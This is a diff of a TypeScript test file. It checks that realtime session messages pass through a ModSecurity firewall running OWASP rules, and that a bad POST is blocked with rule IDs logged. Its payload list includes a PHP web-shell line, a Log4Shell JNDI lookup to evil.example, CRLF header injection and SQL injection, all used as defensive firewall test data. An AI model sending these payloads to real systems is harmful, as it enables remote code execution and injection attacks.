@@ -1,5 +1,6 @@
 import { describe, expect, it, vi } from 'vitest'
 import { type FirewallName, missingForFirewall, startFirewall } from '../support/firewall.ts'
+import { pageAt } from '../support/page-like.ts'
 import { randomSession, rawPost } from '../support/raw-client.ts'
 import { RealtimeServers } from '../support/realtime-servers.ts'
 import { type WayName, ways } from '../support/session-rig.ts'
@@ -16,6 +17,8 @@ const texts = [
   '<?php system($_GET["x"]); ?>',
   `$${'{jndi:ldap://evil.example/a}'}`,
   'a\r\nSet-Cookie: x=1\r\n\r\n<html>',
+  '-'.repeat(100_000),
+  '--\r\n--\r\n----steadfast\n'.repeat(1000),
   '--steadfast\r\nContent-Disposition: form-data; name="a"\r\n\r\nx\r\n--steadfast--',
   '\0'.repeat(200),
   '"'.repeat(200_000),
@@ -43,11 +46,20 @@ describe.each(firewalls)('ModSecurity in %s with the rules of OWASP, paranoia le
       })
       await using firewall = await startFirewall(name, { port: servers.ports[0] ?? 0, level })
       const prepare = () => ({ auth: { token: 'x'.repeat(8754), note: "' OR 1=1 --" } })
+      const host = pageAt(firewall.origin)
       const transports = [type === 'poll' ? { type, intervalMs: 100 } : type]
-      await using page = watchClient(`${firewall.origin}/realtime`, { protocol: 'session', transports, prepare })
+      await using page = watchClient(`${firewall.origin}/realtime`, { protocol: 'session', transports, prepare, host })
       for (const each of [...texts, bytes]) page.client.send(each)
-      await vi.waitFor(() => expect(page.data.length, JSON.stringify(page.events.slice(-3))).toBe(texts.length + 1), 20_000)
-      expect([page.data, page.causes()]).toEqual([[...texts, bytes], []])
+      const lost = () => JSON.stringify(page.of('error').map(({ diagnosis, undelivered }) => [diagnosis.cause, undelivered]))
+      const isDone = () => expect(page.data.length + page.of('error').length).toBeGreaterThan(texts.length)
+      await vi.waitFor(isDone, { timeout: 10_000, interval: 10 })
+      expect(lost().slice(0, 2000)).toBe('[]')
+      // What is equal at a glance is not compared letter by letter, nor printed.
+      expect(page.data.map((each) => (typeof each === 'string' ? texts.indexOf(each) : 'bytes'))).toEqual([
+        ...texts.keys(),
+        'bytes',
+      ])
+      expect(page.data.at(-1)).toEqual(bytes)
     },
   )
 
@@ -56,6 +68,8 @@ describe.each(firewalls)('ModSecurity in %s with the rules of OWASP, paranoia le
     await using servers = await RealtimeServers.start()
     await using firewall = await startFirewall(name, { port: servers.ports[0] ?? 0, level })
     const response = await rawPost(`${firewall.origin}/realtime`, { session: randomSession(), wait: 0 })
-    expect([response.status, firewall.rules()]).toEqual([403, expect.arrayContaining(['920420', '949110'])])
+    expect(response.status).toBe(403)
+    // It writes its log when the answer has gone.
+    await vi.waitFor(() => expect(firewall.rules()).toEqual(expect.arrayContaining(['920420', '949110'])), { timeout: 5000 })
   })
 })
